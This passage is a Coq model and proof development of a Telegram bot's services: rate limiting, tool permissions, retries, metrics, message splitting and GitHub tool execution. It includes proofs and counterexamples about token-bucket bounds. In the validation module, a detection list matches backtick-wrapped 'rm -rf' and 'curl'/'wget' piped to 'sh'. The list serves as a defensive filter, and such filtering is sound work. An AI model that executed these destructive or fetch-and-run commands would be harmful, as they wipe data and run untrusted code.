Definition getRateLimitStats (now : Z) (st : State) : RateLimitStats * State :=
  let '(t, g1) := getTokens now (globalBucket st) in
  ({| userBucketCount := size (userBuckets st); globalTokens := t |},
   {| globalBucket := g1; userBuckets := userBuckets st |}).

End RateLimitAdmin.

(* ===================================================================== *)
(** ** Permission gate: listing, bulk grant, cache maintenance *)
(* ===================================================================== *)

Module PermissionAdmin.
Import ToolPermission.

(** [getUserToolPermissions(userId)]: the tool names of the caller's rows
    with [is_allowed = true] and [revoked_at] null, in the order the store
    returns them (here the order of [map_to_list]); the empty list when
    the store does not serve the query. *)
Definition getUserToolPermissions (reply : StoreReply) (userId : Z) (w : World)
  : list string :=
  match reply with
  | Served =>
      omap (fun kv : Z * string * PermissionRow =>
              if (kv.1.1 =? userId) && rowGrants (Some kv.2)
              then Some kv.1.2 else None)
           (map_to_list (tool_permissions w))
  | Failed _ | Threw _ => []
  end.

(** [grantAllTools(userId, toolNames, grantedBy)]: one grant per name, with
    the note ['Bulk grant'], counting the ones that succeed.  [env i] is
    the clock reading and the store's reply of the [i]-th grant. *)
Fixpoint grantLoop (env : nat -> Z * StoreReply) (i : nat) (userId : Z)
    (toolNames : list string) (grantedBy : option Z) (w : World) (successCount : nat)
  : nat * World :=
  match toolNames with
  | [] => (successCount, w)
  | toolName :: rest =>
      let success :=
        grantToolPermission (env i).1 (env i).2 userId toolName grantedBy
          (Some "Bulk grant") w in
      grantLoop env (S i) userId rest grantedBy success.1.2
        (if success.1.1 then S successCount else successCount)
  end.

Definition grantAllTools (env : nat -> Z * StoreReply) (userId : Z)
    (toolNames : list string) (grantedBy : option Z) (w : World) : nat * World :=
  grantLoop env 0 userId toolNames grantedBy w 0.

(** [clearPermissionCache()]. *)
Definition clearPermissionCache (w : World) : World :=
  {| permissionCache := ∅; cacheTimestamps := ∅;
     tool_permissions := tool_permissions w |}.

(** [getPermissionCacheStats().size]. *)
Definition getPermissionCacheStats (w : World) : nat := size (permissionCache w).

Definition isServed (reply : StoreReply) : bool :=
  match reply with Served => true | _ => false end.

(** A string without a colon. *)
Fixpoint noColon (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c ":") && noColon s'
  end.

(** The state a served grant leaves for its pair: an allowing row and no
    cached value. *)
Definition grantedFresh (uid : Z) (tool : string) (w : World) : Prop :=
  rowGrants (tool_permissions w !! (uid, tool)) = true /\
  permissionCache w !! cacheKey uid tool = None.
End PermissionAdmin.

(* ===================================================================== *)
(** ** Bounded executor: [executeWithTimeoutAndRetry] *)
(* ===================================================================== *)

Module Retry.
Import Timeout.

(** The tick at which the promise of [executeWithTimeout] settles: the
    operation's own tick when it comes before the timer, the timer's
    otherwise. *)
Definition settledAt {T} (op : Operation T) (timeoutMs : N) : N :=
  match op with
  | SettlesAt tick _ => N.min tick timeoutMs
  | NeverSettles => timeoutMs
  end.

(** [`Attempt ${attempt + 1}/${maxRetries + 1} timed out`]. *)
Definition attemptMessage (attempt : nat) (maxRetries : Z) : string :=
  "Attempt " +:+ pretty (Z.of_nat attempt + 1)%Z +:+ "/" +:+ pretty (maxRetries + 1)%Z
  +:+ " timed out".

Record RetryRun (T : Type) := mkRetryRun {
  outcome : option (Settlement T);   (* [None]: still pending *)
  attemptsMade : nat;                (* calls of [fn] *)
  elapsed : N                        (* ticks from the call to the outcome *)
}.
Arguments mkRetryRun {T} outcome attemptsMade elapsed.
Arguments outcome {T} r.
Arguments attemptsMade {T} r.
Arguments elapsed {T} r.

(** The [for] loop of [executeWithTimeoutAndRetry], [remaining] iterations
    before [attempt <= maxRetries] fails.  [fn i] is the promise the
    [i]-th call of [fn] returns. *)
Fixpoint retryLoop {T} (fn : nat -> Operation T) (opFirstOnTie : nat -> bool)
    (timeoutMs : N) (maxRetries : Z) (retryDelayMs : N)
    (remaining attempt : nat) (lastError : option Failure) (clock : N) : RetryRun T :=
  match remaining with
  | O =>
      mkRetryRun
        (Some (Rejected (default (OtherError "All retry attempts exhausted") lastError)))
        attempt clock
  | S remaining' =>
      let run := executeWithTimeout (fn attempt) timeoutMs
                   (attemptMessage attempt maxRetries) (opFirstOnTie attempt) in
      let clock1 := (clock + settledAt (fn attempt) timeoutMs)%N in
      match result run with
      | None => mkRetryRun None (S attempt) clock1
      | Some (Fulfilled v) => mkRetryRun (Some (Fulfilled v)) (S attempt) clock1
      | Some (Rejected (OtherError m)) =>
          mkRetryRun (Some (Rejected (OtherError m))) (S attempt) clock1
      | Some (Rejected (TimeoutError m t)) =>
          let clock2 := if (Z.of_nat attempt <? maxRetries)%Z
                        then (clock1 + retryDelayMs)%N else clock1 in
          retryLoop fn opFirstOnTie timeoutMs maxRetries retryDelayMs
            remaining' (S attempt) (Some (TimeoutError m t)) clock2
      end
  end.

(** [executeWithTimeoutAndRetry(fn, timeoutMs, maxRetries, retryDelayMs)]. *)
Definition executeWithTimeoutAndRetry {T} (fn : nat -> Operation T)
    (opFirstOnTie : nat -> bool) (timeoutMs : N) (maxRetries : Z) (retryDelayMs : N)
  : RetryRun T :=
  retryLoop fn opFirstOnTie timeoutMs maxRetries retryDelayMs
    (Z.to_nat (maxRetries + 1)) 0 None 0.

(** An attempt that the deadline cuts off. *)
Definition timesOut {T} (op : Operation T) (timeoutMs : N) : Prop :=
  match op with
  | SettlesAt tick _ => (timeoutMs < tick)%N
  | NeverSettles => True
  end.

(** An attempt that ends the loop: it settles before the deadline, with a
    value or with a failure that is not a [TimeoutError]. *)
Definition conclusive {T} (op : Operation T) (timeoutMs : N) (s : Settlement T) : Prop :=
  exists tick, op = SettlesAt tick s /\ (tick < timeoutMs)%N /\
    match s with Rejected (TimeoutError _ _) => False | _ => True end.
End Retry.

(* ===================================================================== *)
(** ** Content gate: [isSafeString], [sanitizeOutput], [validateToolInput] *)
(* ===================================================================== *)

Module ValidationMore.
Import Validation.

(** [isSafeString(input)]. *)
Definition isSafeString (input : jsString) : bool :=
  negb (existsb (includes input) DANGEROUS_CHARS)
  && (Z.of_nat (length input) <=? MAX_MESSAGE_LENGTH)%Z
  && (0 <? length (trim input))%nat.

(** [sanitizeOutput(output, maxLength)]; the [try] block does not throw on
    a string. *)
Definition sanitizeOutput (output : jsString) (maxLength : Z) : jsString :=
  let sanitized := fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS output in
  if (maxLength <? Z.of_nat (length sanitized))%Z
  then take (Z.to_nat (maxLength - 3)) sanitized ++ ofString "..."
  else sanitized.

Definition DEFAULT_OUTPUT_LENGTH : Z := 4096.

(** [.] without the [s] flag: any code unit but a line terminator. *)
Definition notLineTerminator (c : N) : bool :=
  negb ((c =? 10) || (c =? 13) || (c =? 8232) || (c =? 8233))%N.

Definition anyChars : Regex := Star notLineTerminator.   (* .* *)

(** [severePatterns] of [validateToolInput]: the literals are evaluated on
    every call, so each call tests new objects with [lastIndex] 0. *)
Definition severePatterns : list RegExp :=
  [ globalRe (cats [word "`"; wordI "rm"; spaces1; wordI "-rf"]);            (* /`rm\s+-rf/gi *)
    globalRe (cats [word "`"; wordI "curl"; anyChars; word "|"; anyChars; wordI "sh"]);
                                                                      (* /`curl.*\|.*sh/gi *)
    globalRe (cats [word "`"; wordI "wget"; anyChars; word "|"; anyChars; wordI "sh"]) ].
                                                                      (* /`wget.*\|.*sh/gi *)

(** [validateToolInput(toolInput)] on [inputString = JSON.stringify(toolInput)];
    [None] stands for a [stringify] that throws or yields [undefined], which
    sends the function to its [catch] branch. *)
Definition validateToolInput (inputString : option jsString) : ValidationResult :=
  match inputString with
  | None => mkValidation false [] ["Tool input validation error"]
  | Some str =>
      let hasDangerous := existsb (includes str) DANGEROUS_CHARS in
      let v1 := if hasDangerous
                then ["Contains null bytes or dangerous characters"] else [] in
      let s1 := if hasDangerous
                then fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS str
                else str in
      let severeInjectionFound := (someTest severePatterns s1).1 in
      let v2 := if severeInjectionFound
                then ["Contains severe command injection patterns"] else [] in
      let violations := v1 ++ v2 in
      mkValidation (length violations =? 0)%nat s1 violations
  end.

(** The literal a match of the regular expression must begin with, when
    its syntax shows one. *)
Fixpoint firstLit (r : Regex) : option N :=
  match r with
  | Lit c => Some c
  | Cat r1 _ => firstLit r1
  | _ => None
  end.

(** The command patterns with given [lastIndex] values: the states the
    module's pattern objects can be in. *)
Definition withLastIndexes (idxs : list nat) : list RegExp :=
  zip_with setLastIndex COMMAND_INJECTION_PATTERNS idxs.

(** The characters the command patterns begin with: backtick, dollar,
    semicolon, bar, ampersand, and the two angle brackets. *)
Definition isTrigger (c : N) : bool :=
  ((c =? 96) || (c =? 36) || (c =? 59) || (c =? 124) || (c =? 38)
   || (c =? 62) || (c =? 60))%N.

Definition commandInjectionViolation : string :=
  "Contains potential command injection patterns".

(** What the null-byte step leaves: no null character, and the text itself
    when it had none. *)
Definition stripped (str : jsString) : jsString :=
  if existsb (includes str) DANGEROUS_CHARS
  then fold_left (fun acc c => removeAll c acc) DANGEROUS_CHARS str
  else str.

(** [/`[^`]*`/]: the first command pattern. *)
Definition backtickSpan : Regex := cats [word "`"; Star (notChr "`"); word "`"].
End ValidationMore.

(* ===================================================================== *)
(** ** Metric series: [monitoring.service.ts] *)
(* ===================================================================== *)

Module Metrics.
(** [MetricDataPoint]. *)
Record MetricDataPoint := mkPoint {
  value : Q;
  timestamp : Z;
  tags : option (list (string * string))
}.

Definition METRIC_RETENTION_MS : Z := 5 * 60 * 1000.

(** The points of a series that are not older than [cutoffTime]:
    [metricData.filter((dp) => dp.timestamp >= cutoffTime)]. *)
Fixpoint since (cutoffTime : Z) (metricData : list MetricDataPoint) : list MetricDataPoint :=
  match metricData with
  | [] => []
  | dp :: rest =>
      if (cutoffTime <=? timestamp dp)%Z then dp :: since cutoffTime rest
      else since cutoffTime rest
  end.

(** [cleanupOldMetrics(metricName)], reading the clock at [now]. *)
Definition cleanupOldMetrics (now : Z) (metricName : string)
    (metrics : gmap string (list MetricDataPoint)) : gmap string (list MetricDataPoint) :=
  match metrics !! metricName with
  | None => metrics
  | Some metricData =>
      let cutoffTime := (now - METRIC_RETENTION_MS)%Z in
      <[metricName := since cutoffTime metricData]> metrics
  end.

(** [recordMetric(metricName, value, tags)]: [tPoint] is the clock reading
    stored in the data point, [tClean] the one of the cleanup that
    follows. *)
Definition recordMetric (tPoint tClean : Z) (metricName : string) (v : Q)
    (tgs : option (list (string * string)))
    (metrics : gmap string (list MetricDataPoint)) : gmap string (list MetricDataPoint) :=
  let dataPoint := mkPoint v tPoint tgs in
  let metricData := default [] (metrics !! metricName) in
  cleanupOldMetrics tClean metricName (<[metricName := metricData ++ [dataPoint]]> metrics).

(** [incrementCounter] and [recordTiming]. *)
Definition incrementCounter (tPoint tClean : Z) (metricName : string)
    (tgs : option (list (string * string))) :=
  recordMetric tPoint tClean metricName 1 tgs.

Definition recordTiming (tPoint tClean : Z) (metricName : string) (durationMs : Q)
    (tgs : option (list (string * string))) :=
  recordMetric tPoint tClean metricName durationMs tgs.







End Metrics.

(* ===================================================================== *)
(** ** Reply chunks: [command.handler.ts] *)
(* ===================================================================== *)

Module MessageChunks.
Import Validation.

Definition MAX_TELEGRAM_MESSAGE_LENGTH : Z := 4096.

(** Whether [str] begins with [pat]. *)
Fixpoint startsWith (pat str : jsString) : bool :=
  match pat, str with
  | [], _ => true
  | p :: pat', c :: str' => (p =? c)%N && startsWith pat' str'
  | _ :: _, [] => false
  end.

(** [str.lastIndexOf(pat)] by a scan from the left: [i] is the index of
    the head of [str], [best] the last index found so far ([-1]: none). *)
Fixpoint lastIndexFrom (pat str : jsString) (i best : Z) : Z :=
  match str with
  | [] => best
  | _ :: str' => lastIndexFrom pat str' (i + 1) (if startsWith pat str then i else best)
  end.

Definition lastIndexOf (pat str : jsString) : Z := lastIndexFrom pat str 0 (-1).

(** The split point [splitLongMessage] picks in a text longer than
    [maxLength], a whole number as at every call site;
    [x > maxLength * 0.5] is [2 * x > maxLength]. *)
Definition chooseSplit (remainingText : jsString) (maxLength : Z) : Z :=
  let searchRange := take (Z.to_nat maxLength) remainingText in
  let lastNewline := lastIndexOf [10%N] searchRange in
  if (maxLength <? 2 * lastNewline)%Z then lastNewline + 1
  else
    let lastPeriod := lastIndexOf (ofString ". ") searchRange in
    if (maxLength <? 2 * lastPeriod)%Z then lastPeriod + 2
    else
      let lastSpace := lastIndexOf (ofString " ") searchRange in
      if (maxLength <? 2 * lastSpace)%Z then lastSpace + 1
      else maxLength.

(** The [while] loop of [splitLongMessage]; [None] when [fuel] iterations
    were not enough to leave it. *)
Fixpoint splitLoop (fuel : nat) (remainingText : jsString) (maxLength : Z)
    (chunks : list jsString) : option (list jsString) :=
  match fuel with
  | O => None
  | S fuel' =>
      if (length remainingText =? 0)%nat then Some chunks
      else if (Z.of_nat (length remainingText) <=? maxLength)%Z
      then Some (chunks ++ [remainingText])
      else
        let splitIndex := chooseSplit remainingText maxLength in
        splitLoop fuel' (drop (Z.to_nat splitIndex) remainingText) maxLength
          (chunks ++ [take (Z.to_nat splitIndex) remainingText])
  end.

(** [splitLongMessage(text, maxLength)]. *)
Definition splitLongMessage (fuel : nat) (text : jsString) (maxLength : Z)
  : option (list jsString) :=
  if (Z.of_nat (length text) <=? maxLength)%Z then Some [text]
  else splitLoop fuel text maxLength [].
End MessageChunks.

(* ===================================================================== *)
(** ** Tool execution: [github.service.ts] *)
(* ===================================================================== *)

Module ToolExecutor.
Import ToolPermission Timeout.

(** The payloads of the audit helpers this service calls. *)
Inductive AuditData :=
| PermissionDeniedData (toolName : string)
| ToolExecutionData (toolName : string) (durationMs : Z) (success : bool)
| ToolTimeoutData (toolName : string) (timeoutMs : N)
| ToolErrorData (toolName : string) (errorMessage : string).

(** One call of [auditLog]. *)
Record AuditCall := mkAudit {
  auditType : Monitoring.AuditEventType;
  auditUser : Z;
  auditData : AuditData;
  auditSeverity : Monitoring.Severity
}.

(** [auditPermissionDenied], [auditToolExecution], [auditToolTimeout],
    [auditToolError]. *)
Definition auditPermissionDenied (userId : Z) (toolName : string) : AuditCall :=
  mkAudit Monitoring.permission_denied userId (PermissionDeniedData toolName)
    Monitoring.SevWarning.

Definition auditToolExecution (userId : Z) (toolName : string) (durationMs : Z)
    (success : bool) : AuditCall :=
  mkAudit Monitoring.tool_execution userId (ToolExecutionData toolName durationMs success)
    (if success then Monitoring.SevInfo else Monitoring.SevError).

Definition auditToolTimeout (userId : Z) (toolName : string) (timeoutMs : N) : AuditCall :=
  mkAudit Monitoring.tool_timeout userId (ToolTimeoutData toolName timeoutMs)
    Monitoring.SevError.

Definition auditToolError (userId : Z) (toolName errorMessage : string) : AuditCall :=
  mkAudit Monitoring.tool_error userId (ToolErrorData toolName errorMessage)
    Monitoring.SevError.

(** [isTimeoutError(error)]: an instance of the class, or an object named
    ['TimeoutError'].  [OtherError] stands for a thrown value that is
    neither. *)
Definition isTimeoutError (e : Failure) : bool :=
  match e with
  | TimeoutError _ _ => true
  | OtherError _ => false
  end.

Definition errorMessage (e : Failure) : string :=
  match e with
  | TimeoutError m _ => m
  | OtherError m => m
  end.

(** What the service touches: the permission gate's world, the metric
    series, the calls of [auditLog] so far, and the number of calls of
    [mcpClient.callTool]. *)
Record ExecState := mkExec {
  world : World;
  metrics : gmap string (list Metrics.MetricDataPoint);
  auditTrail : list AuditCall;
  toolCalls : nat
}.

(** The clock readings of one run, in program order. *)
Record ExecClock := mkExecClock {
  tStart : Z;       (* startTime *)
  tCheck : Z;       (* cache test of the permission gate *)
  tStore : Z;       (* timestamp of a new cache entry *)
  tEnd : Z;         (* Date.now() for durationMs *)
  tPoint : Z;       (* timestamp of the metric sample *)
  tClean : Z        (* cleanup of the metric series *)
}.

Definition TOOL_TIMEOUT_MS : N := 30000.

(** [ctx.from?.id]-style truthiness of [userId]. *)
Definition truthy (userId : option Z) : option Z :=
  match userId with
  | Some 0 => None
  | other => other
  end.

Definition audited (userId : option Z) (calls : Z -> list AuditCall) (st : ExecState)
  : ExecState :=
  match truthy userId with
  | Some uid => mkExec (world st) (metrics st) (auditTrail st ++ calls uid) (toolCalls st)
  | None => st
  end.

(** The [catch] block of [executeGitHubTool]. *)
Definition failed {T} (clk : ExecClock) (toolName : string) (userId : option Z)
    (error : Failure) (st : ExecState) : option (Settlement T) * ExecState :=
  let durationMs := tEnd clk - tStart clk in
  if isTimeoutError error then
    let st1 := audited userId (fun uid => [auditToolTimeout uid toolName TOOL_TIMEOUT_MS]) st in
    (Some (Rejected (OtherError ("Tool execution timed out after "
                                 +:+ pretty TOOL_TIMEOUT_MS +:+ "ms."))),
     mkExec (world st1)
       (Metrics.incrementCounter (tPoint clk) (tClean clk) "tool_timeouts"
          (Some [("toolName", toolName)]) (metrics st1))
       (auditTrail st1) (toolCalls st1))
  else
    let st1 := audited userId
                 (fun uid => [auditToolError uid toolName (errorMessage error);
                              auditToolExecution uid toolName durationMs false]) st in
    (Some (Rejected error),
     mkExec (world st1)
       (Metrics.recordTiming (tPoint clk) (tClean clk) "tool_execution_duration"
          (inject_Z durationMs) (Some [("toolName", toolName); ("success", "false")])
          (metrics st1))
       (auditTrail st1) (toolCalls st1)).

(** The call of the tool under its deadline, and what follows it; [None]
    while the awaited promise is pending. *)
Definition invoke {T} (clk : ExecClock) (op : Operation T) (opFirstOnTie : bool)
    (toolName : string) (userId : option Z) (st : ExecState)
  : option (Settlement T) * ExecState :=
  let st1 := mkExec (world st) (metrics st) (auditTrail st) (S (toolCalls st)) in
  match result (executeWithTimeout op TOOL_TIMEOUT_MS
                  ("Tool execution timed out: " +:+ toolName) opFirstOnTie) with
  | Some (Fulfilled v) =>
      let durationMs := tEnd clk - tStart clk in
      let st2 := audited userId
                   (fun uid => [auditToolExecution uid toolName durationMs true]) st1 in
      (Some (Fulfilled v),
       mkExec (world st2)
         (Metrics.recordTiming (tPoint clk) (tClean clk) "tool_execution_duration"
            (inject_Z durationMs) (Some [("toolName", toolName); ("success", "true")])
            (metrics st2))
         (auditTrail st2) (toolCalls st2))
  | Some (Rejected e) => failed clk toolName userId e st1
  | None => (None, st1)
  end.

(** [executeGitHubTool(toolName, toolInput, userId)].  [clientReady] says
    whether [mcpClient] is set, [reply] is the store's answer should the
    permission gate ask, [op] the promise [callTool] returns. *)
Definition executeGitHubTool {T} (clientReady : bool) (clk : ExecClock)
    (reply : StoreReply) (op : Operation T) (opFirstOnTie : bool)
    (toolName : string) (userId : option Z) (st : ExecState)
  : option (Settlement T) * ExecState :=
  if negb clientReady then
    failed clk toolName userId (OtherError "GitHub MCP client not initialized") st
  else
    match truthy userId with
    | Some uid =>
        let checked := checkToolPermission (tCheck clk) (tStore clk) reply uid toolName
                         (world st) in
        let st1 := mkExec (worldAfter checked) (metrics st) (auditTrail st) (toolCalls st) in
        match returned checked with
        | Normal true => invoke clk op opFirstOnTie toolName userId st1
        | Normal false =>
            let st2 := mkExec (world st1) (metrics st1)
                         (auditTrail st1 ++ [auditPermissionDenied uid toolName])
                         (toolCalls st1) in
            failed clk toolName userId
              (OtherError ("You don't have permission to use the tool: " +:+ toolName +:+ "."))
              st2
        | Abrupt e => failed clk toolName userId (OtherError e) st1
        end
    | None => invoke clk op opFirstOnTie toolName userId st
    end.

(** The caller may use the tool: there is no caller identity to check, or
    the permission gate answers true. *)
Definition permitted (clk : ExecClock) (reply : StoreReply) (toolName : string)
    (userId : option Z) (st : ExecState) : Prop :=
  match truthy userId with
  | Some uid =>
      returned (checkToolPermission (tCheck clk) (tStore clk) reply uid toolName (world st))
      = Normal true
  | None => True
  end.
End ToolExecutor.

Module RateLimitFacts.
Import RateLimit.

Local Open Scope Q_scope.

Lemma elapsed_nonneg (a b : Z) :
  (a <= b)%Z -> 0 <= inject_Z (b - a) / 1000.
Proof.
  intros Hab.
  assert (inject_Z a <= inject_Z b) by (rewrite <- Zle_Qle; lia).
  unfold Z.sub. rewrite inject_Z_plus, inject_Z_opp.
  unfold Qdiv. change (/ 1000) with (1 # 1000). lra.
Qed.

Lemma refill_capacity now b : capacity (refill now b) = capacity b.
Proof. reflexivity. Qed.

Lemma refill_rate now b : refillRate (refill now b) = refillRate b.
Proof. reflexivity. Qed.

Lemma refill_le_capacity now b : tokens (refill now b) <= capacity b.
Proof. cbn. apply Q.le_min_l. Qed.

(** With time moving forward, a refill never removes tokens from a bucket
    that respects its capacity. *)
Lemma refill_ge now b :
  (lastRefill b <= now)%Z -> 0 <= refillRate b -> tokens b <= capacity b ->
  tokens b <= tokens (refill now b).
Proof.
  intros Ht Hr Hc. cbn.
  pose proof (elapsed_nonneg _ _ Ht) as He.
  assert (0 <= inject_Z (now - lastRefill b) / 1000 * refillRate b) by nra.
  destruct (Q.min_spec (capacity b)
              (tokens b + inject_Z (now - lastRefill b) / 1000 * refillRate b))
    as [[_ ->] | [_ ->]]; lra.
Qed.

Lemma tryConsume_capacity now b : capacity (snd (tryConsume now b)) = capacity b.
Proof. unfold tryConsume. destruct (Qle_bool _ _); reflexivity. Qed.

Lemma tryConsume_rate now b : refillRate (snd (tryConsume now b)) = refillRate b.
Proof. unfold tryConsume. destruct (Qle_bool _ _); reflexivity. Qed.

Lemma tryConsume_lastRefill now b : lastRefill (snd (tryConsume now b)) = now.
Proof. unfold tryConsume. destruct (Qle_bool _ _); reflexivity. Qed.

(** One operation keeps the token count within bounds when the clock has
    not gone backwards since the last refill. *)
Lemma applyOp_bounds b o :
  0 <= capacity b -> 0 <= refillRate b ->
  (lastRefill b <= opTime o)%Z ->
  0 <= tokens b <= capacity b ->
  0 <= tokens (applyOp b o) <= capacity b.
Proof.
  intros Hc Hr Ht [H0 H1].
  pose proof (refill_ge (opTime o) b Ht Hr H1) as Hge.
  pose proof (refill_le_capacity (opTime o) b) as Hle.
  destruct o as [now | now]; cbn [applyOp opTime getTokens snd] in *.
  - lra.
  - unfold tryConsume.
    destruct (Qle_bool 1 (tokens (refill now b))) eqn:E; cbn [snd tokens].
    + apply Qle_bool_iff in E. lra.
    + lra.
Qed.

Lemma applyOp_static b o :
  capacity (applyOp b o) = capacity b /\
  refillRate (applyOp b o) = refillRate b /\
  lastRefill (applyOp b o) = opTime o.
Proof.
  destruct o; cbn [applyOp opTime getTokens snd].
  - auto.
  - auto using tryConsume_capacity, tryConsume_rate, tryConsume_lastRefill.
Qed.

Lemma runOps_bounds ops : forall b,
  0 <= capacity b -> 0 <= refillRate b ->
  nondecreasing (lastRefill b) (map opTime ops) ->
  0 <= tokens b <= capacity b ->
  0 <= tokens (runOps ops b) <= capacity b.
Proof.
  induction ops as [| o ops IH]; intros b Hc Hr Hmono Hb; cbn in *.
  - exact Hb.
  - destruct Hmono as [Ht Hmono].
    destruct (applyOp_static b o) as (Ec & Er & El).
    rewrite <- Ec. apply IH.
    + now rewrite Ec.
    + now rewrite Er.
    + now rewrite El.
    + rewrite Ec. now apply applyOp_bounds.
Qed.

Lemma window_rate (w r : Q) : 0 < r -> w < 1 / r -> w * r < 1.
Proof.
  intros Hr Hw.
  assert (E : 1 / r * r == 1) by (field; lra).
  rewrite <- E. now apply Qmult_lt_r.
Qed.

Lemma elapsed_split (a b c : Z) :
  inject_Z (c - a) / 1000 == inject_Z (b - a) / 1000 + inject_Z (c - b) / 1000.
Proof.
  unfold Z.sub. rewrite !inject_Z_plus, !inject_Z_opp.
  unfold Qdiv. change (/ 1000) with (1 # 1000). lra.
Qed.

(** An attempt on a bucket holding a whole token after refill is admitted
    and takes exactly that token. *)
Lemma tryConsume_allows now b :
  1 <= tokens (refill now b) ->
  tryConsume now b =
    (allowedResult,
     mkBucket (capacity b) (refillRate b) (tokens (refill now b) - 1) now).
Proof.
  intros H. unfold tryConsume.
  apply Qle_bool_iff in H. rewrite H. reflexivity.
Qed.

(** An attempt on a bucket short of a whole token after refill is rejected
    and leaves the refilled bucket as it is. *)
Lemma tryConsume_rejects now b :
  tokens (refill now b) < 1 ->
  tryConsume now b = (rejectedResult (refill now b), refill now b).
Proof.
  intros H. unfold tryConsume.
  destruct (Qle_bool 1 (tokens (refill now b))) eqn:E.
  - apply Qle_bool_iff in E. lra.
  - reflexivity.
Qed.

Lemma refill_le_sum now b :
  tokens (refill now b)
    <= tokens b + inject_Z (now - lastRefill b) / 1000 * refillRate b.
Proof. cbn. apply Q.le_min_r. Qed.

(** [n] admitted attempts followed by a rejected one: the core of the
    burst argument.  The bucket holds at least [n] tokens, and what it
    holds beyond [n] plus what the whole window refills stays below one. *)
Lemma burst_then_reject (n : nat) : forall (ts : list Z) (tl : Z) (b : TokenBucket),
  length ts = n ->
  nondecreasing (lastRefill b) (ts ++ [tl]) ->
  0 < refillRate b ->
  inject_Z (Z.of_nat n) <= tokens b <= capacity b ->
  tokens b - inject_Z (Z.of_nat n)
    + inject_Z (tl - lastRefill b) / 1000 * refillRate b < 1 ->
  exists b',
    attempts (ts ++ [tl]) b = (repeat allowedResult n ++ [rejectedResult b'], b')
    /\ tokens b' < 1 /\ refillRate b' = refillRate b.
Proof.
  induction n as [| n IH]; intros ts tl b Hlen Hmono Hr [Hn Hc] Hwin.
  - destruct ts; [| discriminate]. cbn [app attempts repeat].
    assert (Hlt : tokens (refill tl b) < 1).
    { pose proof (refill_le_sum tl b) as Hsum.
      change (inject_Z (Z.of_nat 0)) with 0 in Hwin.
      revert Hwin Hsum.
      generalize (inject_Z (tl - lastRefill b) / 1000 * refillRate b).
      intros e Hwin Hsum. lra. }
    rewrite (tryConsume_rejects _ _ Hlt).
    exists (refill tl b). auto.
  - destruct ts as [| t ts]; [discriminate |].
    injection Hlen as Hlen. cbn [app] in Hmono. destruct Hmono as [Ht Hmono].
    assert (HS : inject_Z (Z.of_nat (S n)) == inject_Z (Z.of_nat n) + 1).
    { rewrite Nat2Z.inj_succ. unfold Z.succ. rewrite inject_Z_plus. reflexivity. }
    assert (Hn0 : 0 <= inject_Z (Z.of_nat n)).
    { change 0 with (inject_Z 0). rewrite <- Zle_Qle. lia. }
    assert (Hr' : 0 <= refillRate b) by lra.
    pose proof (refill_ge t b Ht Hr' Hc) as Hge.
    pose proof (refill_le_capacity t b) as Hle.
    pose proof (refill_le_sum t b) as Hsum.
    assert (H1 : 1 <= tokens (refill t b)) by lra.
    cbn [app attempts]. rewrite (tryConsume_allows _ _ H1).
    set (b1 := mkBucket (capacity b) (refillRate b) (tokens (refill t b) - 1) t).
    assert (Htl : (t <= tl)%Z).
    { clear - Hmono. revert t Hmono.
      induction ts as [| x ts IHts]; cbn; intros t H.
      - tauto.
      - destruct H as [Hx H]. specialize (IHts _ H). lia. }
    destruct (IH ts tl b1 Hlen Hmono Hr) as (b' & Erun & Hb' & Hrate).
    + cbn [tokens capacity b1]. lra.
    + cbn [tokens lastRefill refillRate b1].
      pose proof (elapsed_split (lastRefill b) t tl) as Esp.
      rewrite Esp in Hwin.
      revert Hwin Hsum. 
      generalize (inject_Z (t - lastRefill b) / 1000), (inject_Z (tl - t) / 1000).
      intros e1 e2 Hwin Hsum.
      assert (Hd : (e1 + e2) * refillRate b == e1 * refillRate b + e2 * refillRate b) by ring.
      rewrite Hd in Hwin. lra.
    + exists b'. rewrite Erun. cbn [repeat app]. auto.
Qed.

Lemma Qceiling_pos (x : Q) : 0 < x -> (1 <= Qceiling x)%Z.
Proof.
  intros Hx. pose proof (Qle_ceiling x) as Hc.
  assert (H : inject_Z 0 < inject_Z (Qceiling x)) by (change (inject_Z 0) with 0; lra).
  rewrite <- Zlt_Qlt in H. lia.
Qed.

(** C4, as stated, fails: a bucket created at clock reading 100000 and
    asked for a token at reading 0 (the wall clock was set back by 100
    seconds) holds -20 tokens afterwards, outside [0, capacity]. *)
Lemma tokens_negative_after_clock_setback :
  let b := runOps [OpConsume 0]
             (newTokenBucket USER_CAPACITY USER_REFILL_RATE 100000) in
  tokens b == -20 /\ ~ (0 <= tokens b <= capacity b).
Proof.
  cbv zeta. split.
  - vm_compute. reflexivity.
  - intros [H _]. vm_compute in H. apply H. reflexivity.
Qed.

(** C4 (amended): for every bucket with capacity > 0 and refill rate > 0,
    and every finite sequence of refill and consume operations from the
    initial state whose clock readings never decrease (starting from the
    reading taken at construction), the token count lies within
    [0, capacity] after the sequence, hence after each of its prefixes. *)
Theorem tokens_within_capacity (cap rate : Q) (t0 : Z) (ops : list BucketOp) :
  0 < cap -> 0 < rate ->
  nondecreasing t0 (map opTime ops) ->
  forall k : nat,
    0 <= tokens (runOps (take k ops) (newTokenBucket cap rate t0)) <= cap.
Proof.
  intros Hc Hr Hmono k.
  change cap with (capacity (newTokenBucket cap rate t0)) at 2.
  apply runOps_bounds; cbn [capacity refillRate tokens lastRefill newTokenBucket];
    try lra.
  clear - Hmono. revert t0 k Hmono.
  induction ops as [| o ops IH]; intros t0 k H; destruct k; cbn in *; try tauto.
  destruct H as [H0 H]. split; [exact H0 | now apply IH].
Qed.

Lemma tokens_within_capacity_witness :
  0 <= tokens (runOps (take 3 [OpConsume 10; OpRefill 10; OpConsume 2500; OpConsume 2500])
                 (newTokenBucket USER_CAPACITY USER_REFILL_RATE 0))
    <= USER_CAPACITY.
Proof.
  apply (tokens_within_capacity USER_CAPACITY USER_REFILL_RATE 0
           [OpConsume 10; OpRefill 10; OpConsume 2500; OpConsume 2500]).
  - reflexivity.
  - reflexivity.
  - cbn. lia.
Defined.

(** C5, as stated, fails: with capacity 30 and refill rate 0.5/s, 31
    attempts spread over 57 seconds, a window shorter than
    capacity / refillRate = 60 seconds, are all admitted, the 31st
    included. *)
Lemma slow_burst_allowed :
  length slowBurst = 31%nat /\
  nondecreasing 0 slowBurst /\
  inject_Z (List.last slowBurst 0%Z - List.hd 0%Z slowBurst) / 1000
    < USER_CAPACITY / USER_REFILL_RATE /\
